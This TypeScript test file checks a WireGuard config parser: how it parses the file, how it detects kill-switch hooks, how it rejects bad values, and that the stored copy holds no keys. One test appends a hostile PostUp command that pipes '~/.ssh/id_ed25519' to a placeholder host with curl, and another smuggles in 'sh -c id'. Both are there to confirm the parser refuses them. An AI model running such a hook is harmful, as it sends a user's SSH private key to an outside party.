// wg-quick parsing and the keyless copy that import stores.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { formatWgQuick, isCidr, isKillSwitchHook, parseWgQuick, readWgQuick } from '../../helpers/vpn/wireguard-config.js';
import { wgSetconfText } from '../../helpers/vpn/wireguard.js';

const PRIV = 'yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=';
const PUB = 'xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=';
const PSK = 'FpCyhws9cxwWoV4xELtfJvjJN+zQVRPISllRWgeopVE=';
const CONF = `[Interface]
PrivateKey = ${PRIV}
Address = 198.19.9.2/24, fd00::2/64
DNS = 198.19.9.1, corp.example
MTU = 1380

[Peer]
PublicKey = ${PUB}
PresharedKey = ${PSK}
Endpoint = vpn.example.com:51820
AllowedIPs = 0.0.0.0/0, ::/0
PersistentKeepalive = 25
`;

test('parses [Interface] and [Peer]', () => {
  const c = parseWgQuick(CONF);
  assert.equal(c.privateKey, PRIV);
  assert.deepEqual(c.addresses, ['198.19.9.2/24', 'fd00::2/64']);
  assert.deepEqual(c.dns, ['198.19.9.1']);
  assert.deepEqual(c.searchDomains, ['corp.example']);
  assert.equal(c.mtu, 1380);
  assert.deepEqual(c.verdict.kept.map((k) => k.option), ['PrivateKey', 'Address', 'DNS', 'MTU', 'PublicKey', 'PresharedKey', 'Endpoint', 'AllowedIPs', 'PersistentKeepalive']);
  assert.deepEqual(c.peers, [{ publicKey: PUB, presharedKey: PSK, endpoint: { host: 'vpn.example.com', port: 51820 }, allowedIps: ['0.0.0.0/0', '::/0'], persistentKeepalive: 25 }]);
  assert.deepEqual(parseWgQuick(CONF.replace('vpn.example.com:51820', '[2001:db8::1]:51820')).peers[0]!.endpoint, { host: '2001:db8::1', port: 51820 });
});

const KILL_UP = 'iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -m addrtype ! --dst-type LOCAL -j REJECT && ip6tables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -m addrtype ! --dst-type LOCAL -j REJECT';
const KILL_DOWN = KILL_UP.replace(/ -I /g, ' -D ');

test('hooks that run programs are refused by name, with their line', () => {
  assert.throws(() => parseWgQuick(`${CONF}`.replace('MTU = 1380', 'PostUp = iptables -A x\nPreDown = y')), /"PostUp" at line 5: runs a program on your computer \(iptables -A x\)\n.*"PreDown" at line 6/);
  // A kill-switch rule followed by anything else is a program like any other.
  assert.throws(() => parseWgQuick(CONF.replace('MTU = 1380', `PostUp = ${KILL_UP}; curl https://x.example/$(cat ~/.ssh/id_ed25519)`)), /"PostUp" at line 5: runs a program/);
  assert.throws(() => parseWgQuick(CONF.replace('MTU = 1380', 'PostUp = iptables -I OUTPUT ! -o %i -j REJECT; sh -c id')), /"PostUp" at line 5/);
});

test('the host kill switch of wg-quick and Mullvad is dropped: the sandbox is one by construction', () => {
  const c = readWgQuick(CONF.replace('MTU = 1380', `MTU = 1380\nPostUp = ${KILL_UP}\nPreDown = ${KILL_DOWN}\nTable = off\nSaveConfig = true\nFwMark = 51820`));
  assert.deepEqual(c.verdict.refused, []);
  assert.deepEqual(c.verdict.dropped.map((d) => [d.option, d.line]), [['PostUp', 6], ['PreDown', 7], ['Table', 8], ['SaveConfig', 9], ['FwMark', 10]]);
  assert.match(c.verdict.dropped[0]!.reason, /kill switch by construction/);
  assert.match(c.verdict.dropped[2]!.reason, /wg-quick would add no routes/);
  assert.match(c.verdict.dropped[3]!.reason, /never writes the configuration back/);
  assert.ok(isKillSwitchHook('/usr/sbin/iptables -w -A OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -m addrtype ! --dst-type LOCAL -j DROP'));
  assert.ok(!isKillSwitchHook('iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -m addrtype ! --dst-type LOCAL -j REJECT > /tmp/x'));
  assert.ok(!isKillSwitchHook('iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE'));
  assert.ok(!isKillSwitchHook(''));
});

test('bad values name their line', () => {
  const bad = (text: string) => readWgQuick(text).verdict.refused.map((r) => `${r.line} ${r.option}: ${r.reason}`);
  assert.deepEqual(bad(CONF.replace(PRIV, 'short')), ['2 PrivateKey: is not a WireGuard key']);
  assert.deepEqual(bad(CONF.replace('198.19.9.2/24', '198.19.9.300/24')), ['3 Address: "198.19.9.300/24" is not an address/prefix', 'null Address: [Interface] has no Address']);
  assert.match(bad(CONF.replace('vpn.example.com:51820', 'vpn.example.com'))[0]!, /^10 Endpoint: "vpn.example.com" is not HOST:PORT/);
  assert.deepEqual(bad('[Interface]\nAddress = 198.19.0.2/32\n'), ['null [Peer]: no [Peer] section']);
  assert.deepEqual(bad(CONF.replace('Address', 'Adress')), ['3 Adress: an [Interface] key neither wg nor wg-quick knows', 'null Address: [Interface] has no Address']);
  assert.throws(() => parseWgQuick(CONF.replace('Address', 'Adress'), 'home.conf'), /^SandtrayError: home\.conf: Sandtray does not accept this configuration:\n {2}"Adress" at line 3: /);
  assert.deepEqual(readWgQuick(CONF.replace(`PrivateKey = ${PRIV}\n`, '')).verdict.needs, { username: false, password: false, privateKey: true });
});

test('the stored copy has no keys; setconf text has them, with loopback endpoints mapped', () => {
  const c = parseWgQuick(CONF);
  c.peers[0]!.presharedKey = 'keyring';
  const stored = formatWgQuick({ ...c, privateKey: null });
  assert.ok(!stored.includes(PRIV) && !stored.includes(PSK));
  assert.match(stored, /PresharedKey = keyring/);
  const again = parseWgQuick(stored);
  assert.equal(again.privateKey, null);
  assert.equal(again.peers[0]!.presharedKey, 'keyring');
  const loop = parseWgQuick(CONF.replace('vpn.example.com', '127.0.0.1'));
  const text = wgSetconfText(loop, PRIV, [PSK], '198.19.255.1');
  assert.match(text, new RegExp(`PrivateKey = ${PRIV.replace(/[+/]/g, '\\$&')}`));
  assert.match(text, /Endpoint = 198\.19\.255\.1:51820/);
  assert.match(text, /AllowedIPs = 0\.0\.0\.0\/0, ::\/0/);
});

test('isCidr', () => {
  for (const ok of ['198.18.0.1', '198.18.0.0/15', '::/0', 'fd00::2/64']) assert.ok(isCidr(ok), ok);
  for (const bad of ['198.18.0.256', '198.18.0.0/33', 'x', '1.2.3.4/5/6', 'fd00::/129']) assert.ok(!isCidr(bad), bad);
});
